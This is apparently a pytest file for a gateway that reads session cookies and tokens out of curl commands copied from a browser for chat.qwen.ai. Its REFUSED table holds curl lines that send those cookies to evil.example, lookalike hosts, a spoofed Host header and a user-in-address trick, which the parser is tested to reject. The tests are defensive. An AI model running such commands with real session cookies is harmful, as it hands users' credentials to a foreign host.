"""Commands that browsers and people write, and those that are of another site."""

import pytest
from tests.accounts.browsers import ACCESS, JAR, KEPT, LONG, chrome_bash, chrome_cmd

from qwen_gateway.accounts.credential import Credential
from qwen_gateway.accounts.forms.curl import is_it, read
from qwen_gateway.turn.faults import InvalidRequest

SESSION = Credential({"a": "1", "token": LONG}, LONG, "UA")
COOKIES = f"a=1; token={LONG}"
COMMANDS = {
    "short options": f"curl https://chat.qwen.ai/ -H 'Cookie: {COOKIES}' -A UA",
    "long options": f"curl --url https://chat.qwen.ai/ --cookie '{COOKIES}' --user-agent UA",
    "long options with a sign": f"curl https://chat.qwen.ai/ '--header=cookie: {COOKIES}' --user-agent=UA",
    "options in one word": f"curl -XPOST https://chat.qwen.ai/ -H'cookie:{COOKIES}' -AUA",
    "other options": f"curl -sS -k -X POST -o out -d @x https://chat.qwen.ai -b '{COOKIES}' -A UA --globoff",
    "no scheme": f"curl chat.qwen.ai/api -b '{COOKIES}' -A UA",
    "short options in one word": f"curl -sSkLb '{COOKIES}' -sSAUA https://chat.qwen.ai",
    "a short option with its value in one word with others": f"curl -sSb'{COOKIES}' -fAUA https://chat.qwen.ai",
    "options with values": f"curl --max-redirs 5 --url-query a=b --retry-delay 1 --proto =https --preproxy x -y 9 -Y 1 "
    f"--noproxy x -t a=b https://chat.qwen.ai -b '{COOKIES}' -A UA",
    "options without values": f"curl --compressed -4 -# --http2 -0 --no-keepalive https://chat.qwen.ai -b '{COOKIES}' "
    "-A UA",
    "double quotes": f'curl "https://chat.qwen.ai/" -b "{COOKIES}" -A "UA"',
    "a host header": f"curl https://chat.qwen.ai -H 'host: chat.qwen.ai' -b '{COOKIES}' -A UA",
    "a pipe behind it": f"curl https://chat.qwen.ai -b '{COOKIES}' -A UA | jq .data",
    "several of them, the first counts": f"curl https://chat.qwen.ai -b '{COOKIES}' -A UA ;\ncurl https://x -b b=2",
    "a header taken away": f"curl https://chat.qwen.ai -H 'accept;' -H x -b '{COOKIES}' -A UA",
    "Windows": f'curl.exe ^"https://chat.qwen.ai^" ^\r\n  -b ^"{COOKIES}^" ^\r\n -A ^"UA^"',
}


@pytest.mark.parametrize("text", COMMANDS.values(), ids=COMMANDS.keys())
def test_commands(text: str) -> None:
    assert is_it(text)
    assert read(text) == SESSION


@pytest.mark.parametrize(("address", "site"), [("127.0.0.1:9000", "127.0.0.1"), ("\\[::1\\]:9000", "::1")])
def test_the_simulator(address: str, site: str) -> None:
    assert read(f"curl 'http://{address}/api' -b '{COOKIES}' -A UA", site) == SESSION


def test_commands_of_browsers() -> None:
    assert read(chrome_bash(JAR, ACCESS)).cookies == read(chrome_cmd(JAR, ACCESS)).cookies == KEPT


@pytest.mark.parametrize("text", ["curling 'x'", "a=curl", "", "curl2 x"])
def test_what_is_no_command(text: str) -> None:
    assert not is_it(text)


REFUSED = {
    "another site": (f"curl https://evil.example/ -b '{COOKIES}'", "another site"),
    "another site's likeness": (f"curl https://chat.qwen.ai.evil.example/ -b '{COOKIES}'", "another site"),
    "one of two": (f"curl https://chat.qwen.ai https://evil.example -b '{COOKIES}'", "another site"),
    "an option's value is no address": (f"curl -o https://chat.qwen.ai -b '{COOKIES}'", "no address"),
    "another host header": (f"curl https://chat.qwen.ai -H 'Host: evil.example' -b '{COOKIES}'", "another site"),
    "a user in the address": (f"curl 'https://evil.example\\@chat.qwen.ai' -b '{COOKIES}'", "another site"),
    "no address": (f"curl -b '{COOKIES}'", "no address"),
    "nothing": ("curl", "no address"),
    "a last option": ("curl https://chat.qwen.ai -b", "no cookies and no token"),
    "an open quote": (f"curl https://chat.qwen.ai -b '{COOKIES}", "never closed"),
    "an open quote of cmd": (f'curl ^"https://chat.qwen.ai^" -b ^"{COOKIES}', "never closed"),
    "a file of cookies": ("curl https://chat.qwen.ai -b cookies.txt", "no cookies and no token"),
    "a guest": ("curl https://chat.qwen.ai -b 'cna=1'", "nobody was logged in"),
    "no cookies": ("curl https://chat.qwen.ai -H 'bx-ua: 234!'", "no cookies and no token"),
}


@pytest.mark.parametrize(("text", "said"), REFUSED.values(), ids=REFUSED.keys())
def test_refused_commands(text: str, said: str) -> None:
    with pytest.raises(InvalidRequest, match=said) as caught:
        read(text)
    assert LONG not in caught.value.text
    assert "evil" not in caught.value.text
